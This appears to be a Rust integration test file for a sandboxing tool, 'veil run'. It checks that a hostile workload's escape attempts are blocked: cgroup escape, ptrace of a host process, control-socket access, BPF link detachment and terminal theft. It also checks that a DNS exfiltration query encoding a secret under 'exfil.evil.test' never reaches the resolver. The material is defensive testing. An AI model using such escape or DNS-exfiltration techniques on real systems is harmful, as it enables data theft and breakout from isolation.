//! `veil run` isolation: a hostile workload, as root inside a default sandbox and as
//! `--user`, tries every way out it knows (`src/hostile.py`) and gets none; the same attempts
//! get out with `--no-isolation`, which shows they are real. Also: DNS outside the policy
//! never reaches the resolver, the secrets profile reloads in a running shell, what the
//! workload may write, its environment, and bad input refused before anything is made.

use std::{
    fs,
    io::{BufRead, BufReader},
    os::unix::fs::{MetadataExt, PermissionsExt},
    path::Path,
    process::{Child, Command, Stdio},
};

use veil_testkit::remote::remote_ip;
use veil_tests::{dns::FakeResolver, eventually, Instance, REMOTE_A};

const HOSTILE: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/src/hostile.py");

/// A process killed (and reaped) when dropped.
struct Reaped(Child);

impl Drop for Reaped {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// A host process running as `nobody`, the host uid of a default sandbox's root.
fn host_process_of_nobody() -> Reaped {
    Reaped(
        Command::new("setpriv")
            .args(["--reuid", "65534", "--regid", "65534", "--clear-groups"])
            .args(["sleep", "120"])
            .spawn()
            .expect("setpriv runs"),
    )
}

/// The ids of every BPF link on the host.
fn link_ids() -> Vec<u64> {
    let out = Command::new("bpftool")
        .args(["link", "show", "--json"])
        .output()
        .expect("bpftool runs");
    let links: Vec<serde_json::Value> =
        serde_json::from_slice(&out.stdout).expect("bpftool's JSON");
    links.iter().filter_map(|l| l["id"].as_u64()).collect()
}

/// Runs the hostile workload under `veil run RUN_ARGS` with a real controlling terminal
/// (`script` gives veil one, so a stolen terminal would be worth something) and returns its
/// report.
fn hostile(veil: &Instance, run_args: &[&str], link_ids: &[u64]) -> serde_json::Value {
    let host = host_process_of_nobody();
    let aim = serde_json::json!({
        "cgroup_root": veil_testkit::mounts::cgroup2_mount().expect("cgroup2"),
        "state_dir": veil.state_dir(),
        "socket": veil.socket(),
        "bpf_dir": veil.bpf_dir(),
        "link_ids": link_ids,
        "host_pid": host.0.id(),
    });
    let mut line = vec![veil_tests::veil_bin().display().to_string(), "run".into()];
    line.extend(run_args.iter().map(|a| (*a).to_owned()));
    line.extend([
        "--".into(),
        "python3".into(),
        HOSTILE.into(),
        aim.to_string(),
    ]);
    let quoted: Vec<String> = line.iter().map(|a| format!("'{a}'")).collect();
    let out = Command::new("script")
        .args(["-qec", &quoted.join(" "), "/dev/null"])
        .envs(veil.env_vars())
        .env("AWS_SECRET_ACCESS_KEY", "the-callers-own")
        .env("SSH_AUTH_SOCK", "/tmp/ssh-agent.sock")
        .stdin(Stdio::null())
        .output()
        .expect("script runs");
    let text = String::from_utf8_lossy(&out.stdout);
    text.lines()
        .find_map(|l| serde_json::from_str(l.trim()).ok())
        .unwrap_or_else(|| panic!("no report:\n{text}{}", String::from_utf8_lossy(&out.stderr)))
}

/// Every attempt of `report` that got out.
fn escapes(report: &serde_json::Value) -> Vec<String> {
    report
        .as_object()
        .expect("a report object")
        .iter()
        .filter(|(_, v)| !v.as_str().is_some_and(|v| v.starts_with("blocked")))
        .map(|(k, v)| format!("{k}: {v}"))
        .collect()
}

fn running_instance() -> Instance {
    let mut veil = Instance::new();
    veil.start_daemon(&[]);
    veil
}

#[test]
fn a_root_workload_in_a_default_sandbox_gets_nowhere() {
    let veil = running_instance();
    let report = hostile(&veil, &[], &link_ids());
    assert!(escapes(&report).is_empty(), "{report:#}");
    assert_eq!(report.as_object().map(|o| o.len()), Some(17), "{report:#}");
    assert!(
        report["bpf_links"]
            .as_str()
            .is_some_and(|r| r.starts_with("blocked: [")),
        "every link was tried: {report:#}"
    );
}

#[test]
fn a_user_workload_gets_nowhere_either() {
    let veil = running_instance();
    let report = hostile(&veil, &["--user", "nobody"], &link_ids());
    assert!(escapes(&report).is_empty(), "{report:#}");
}

#[test]
fn without_isolation_the_same_attempts_get_out_so_they_are_real() {
    let veil = running_instance();
    // No link ids: this workload really could detach them.
    let report = hostile(&veil, &["--no-isolation"], &[]);
    let got = escapes(&report);
    for attempt in [
        "cgroup_escape",
        "master_key",
        "control_socket",
        "pins",
        "ptrace_host",
        "write_etc",
    ] {
        assert!(
            got.iter().any(|e| e.starts_with(attempt)),
            "{attempt} should get out without isolation: {report:#}"
        );
    }
    // What veil does in both modes: the caller's environment and groups stay outside, no
    // new privileges, no terminal to steal. (Packet sockets are refused in the sandbox's
    // namespace, but this workload has made itself a namespace of its own by then.)
    for kept in ["caller_env", "groups", "no_new_privs", "tiocsti"] {
        assert!(
            !got.iter().any(|e| e.starts_with(kept)),
            "{kept}: {report:#}"
        );
    }
}

#[test]
fn dns_outside_the_policy_never_reaches_the_resolver() {
    let resolver = FakeResolver::start(REMOTE_A, "allowed.example.test", remote_ip(2));
    let mut veil = Instance::new();
    veil.set_policy("[egress]\nallow = [\"allowed.example.test\"]\n");
    veil.start_daemon(&["--dns-upstream", &resolver.addr.to_string()]);
    let script = "import socket, struct, sys\n\
        def ask(name, server):\n\
        \x20   q = struct.pack('!HHHHHH', 7, 0x100, 1, 0, 0, 0)\n\
        \x20   q += b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\\0'\n\
        \x20   s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n\
        \x20   s.settimeout(5)\n\
        \x20   s.sendto(q + struct.pack('!HH', 1, 1), (server, 53))\n\
        \x20   r = s.recv(512)\n\
        \x20   return r[3] & 15, r[-4:] if struct.unpack('!H', r[6:8])[0] else b''\n\
        for name, server in [('allowed.example.test', '1.1.1.1'),\n\
        \x20                    ('c2VjcmV0.exfil.evil.test', '1.1.1.1'),\n\
        \x20                    ('c2VjcmV0.exfil.evil.test', '10.250.0.53'),\n\
        \x20                    ('other.allowed.example.test', '8.8.8.8')]:\n\
        \x20   rcode, addr = ask(name, server)\n\
        \x20   print(name, rcode, '.'.join(map(str, addr)))\n";
    let out = veil.run_veil(&["run", "--", "python3", "-c", script]);
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "{stdout}{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(
        stdout,
        "allowed.example.test 0 10.250.0.2\n\
         c2VjcmV0.exfil.evil.test 5 \n\
         c2VjcmV0.exfil.evil.test 5 \n\
         other.allowed.example.test 5 \n"
    );
    assert_eq!(
        resolver.queries(),
        1,
        "only the allowed name reached the resolver"
    );
    eventually("the refusals are audited", || {
        let records = veil.audit();
        records
            .iter()
            .filter(|r| r["kind"] == "dns_query")
            .any(|r| r.to_string().contains("exfil.evil.test"))
    });
}

#[test]
fn the_secrets_profile_reloads_in_a_running_shell() {
    let veil = running_instance();
    veil.create_secret("first", "real-one", "FIRST_TOKEN", &["a.example.test"]);
    let shared = tempfile::Builder::new()
        .prefix("veil-profile-")
        .tempdir()
        .expect("a directory");
    fs::set_permissions(shared.path(), fs::Permissions::from_mode(0o755)).expect("chmod");
    let flag = shared.path().join("go");
    let script = format!(
        "echo \"1 $FIRST_TOKEN ${{SECOND_TOKEN:-unset}}\"\n\
         while [ ! -e {flag} ]; do sleep 0.05; done\n\
         . /etc/profile.d/veil-secrets.sh\n\
         echo \"2 $FIRST_TOKEN $SECOND_TOKEN\"\n\
         bash -lc 'echo \"3 $SECOND_TOKEN\"'\n",
        flag = flag.display()
    );
    let shared_dir = shared.path().display().to_string();
    let mut child = veil
        .veil()
        .args(["run", "--ro-bind", &shared_dir, "--", "bash", "-c", &script])
        .stdout(Stdio::piped())
        .spawn()
        .expect("veil run starts");
    let mut lines = BufReader::new(child.stdout.take().expect("stdout")).lines();
    let first = lines.next().and_then(Result::ok);
    assert_eq!(first.as_deref(), Some("1 IRONSH_PROXY_first unset"));
    veil.create_secret("second", "real-two", "SECOND_TOKEN", &["a.example.test"]);
    fs::write(&flag, "").expect("the flag");
    let rest: Vec<String> = lines.map_while(Result::ok).collect();
    assert!(child.wait().expect("veil run ends").success());
    assert_eq!(
        rest,
        [
            "2 IRONSH_PROXY_first IRONSH_PROXY_second",
            "3 IRONSH_PROXY_second"
        ]
    );
}

#[test]
fn the_workload_writes_only_its_directories_and_gets_only_the_listed_environment() {
    let veil = running_instance();
    let base = tempfile::Builder::new()
        .prefix("veil-work-")
        .tempdir()
        .expect("a directory");
    fs::set_permissions(base.path(), fs::Permissions::from_mode(0o755)).expect("chmod");
    let work = base.path().join("work");
    let data = base.path().join("data");
    let env_file = base.path().join("vars.env");
    fs::create_dir(&work).expect("work");
    fs::create_dir(&data).expect("data");
    std::os::unix::fs::chown(&work, Some(4321), Some(4321)).expect("chown work");
    fs::set_permissions(&data, fs::Permissions::from_mode(0o777)).expect("chmod data");
    fs::write(&env_file, "# vars\nFROM_FILE=file\nBOTH=file\n").expect("env file");
    // The same user's home, with a key in it: the sandbox runs as that user outside, but
    // homes are private inside.
    let home = tempfile::Builder::new()
        .prefix("veil-isolation-")
        .tempdir_in("/home")
        .expect("a home");
    let key = home.path().join("id_ed25519");
    fs::write(&key, "not really a key").expect("a key");
    for path in [home.path(), key.as_path()] {
        std::os::unix::fs::chown(path, Some(4321), Some(4321)).expect("chown home");
    }
    let data_arg = data.display().to_string();
    let file_arg = env_file.display().to_string();
    let out = veil
        .veil()
        .current_dir(&work)
        .env("AWS_ACCESS_KEY_ID", "callers")
        .args(["run", "--bind", &data_arg, "--env-file", &file_arg])
        .args(["--env", "BOTH=arg", "--env", "FROM_ARG=arg", "--"])
        .args(["sh", "-c"])
        .arg(format!(
            "id -u; touch here {data}/there; touch /var/tmp/x 2>/dev/null || echo ro; \
             cat {key} 2>/dev/null && echo home-read; \
             echo \"$FROM_FILE $BOTH $FROM_ARG ${{AWS_ACCESS_KEY_ID:-none}} $HOME\"",
            data = data.display(),
            key = key.display()
        ))
        .output()
        .expect("veil run");
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "{stdout}{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(stdout, "0\nro\nfile arg arg none /root\n");
    // Root inside is the working directory's owner outside.
    assert_eq!(fs::metadata(work.join("here")).expect("here").uid(), 4321);
    assert_eq!(fs::metadata(data.join("there")).expect("there").uid(), 4321);
}

#[test]
fn bad_input_is_refused_before_anything_is_made() {
    let veil = running_instance();
    let sandboxes = || {
        fs::read_dir(veil.cgroup_parent())
            .map(|dir| {
                dir.filter_map(Result::ok)
                    .filter(|e| e.path().is_dir())
                    .count()
            })
            .unwrap_or(0)
    };
    let namespaces = || {
        fs::read_dir(veil.run_dir().join("netns"))
            .map(|dir| dir.count())
            .unwrap_or(0)
    };
    let state = veil.state_dir().display().to_string();
    for (args, says) in [
        (vec!["--bind", "/no/such/dir"], "--bind /no/such/dir"),
        (vec!["--ro-bind", &state], "must not see"),
        (vec!["--user", "root"], "is root"),
        (vec!["--user", "no-such-user-anywhere"], "no such user"),
        (vec!["--env", "1BAD=x"], "not a variable name"),
        (
            vec!["--env-file", "/no/such/file"],
            "--env-file /no/such/file",
        ),
        (vec!["--", "no-such-command-anywhere"], "command not found"),
    ] {
        let mut full = vec!["run"];
        full.extend(&args);
        if !args.contains(&"--") {
            full.extend(["--", "true"]);
        }
        let out = veil.run_veil(&full);
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(!out.status.success(), "{args:?} ran");
        assert!(stderr.contains(says), "{args:?}: {stderr}");
        assert_eq!(
            (sandboxes(), namespaces()),
            (0, 0),
            "{args:?} left a sandbox"
        );
    }
    assert!(Path::new(HOSTILE).exists());
}
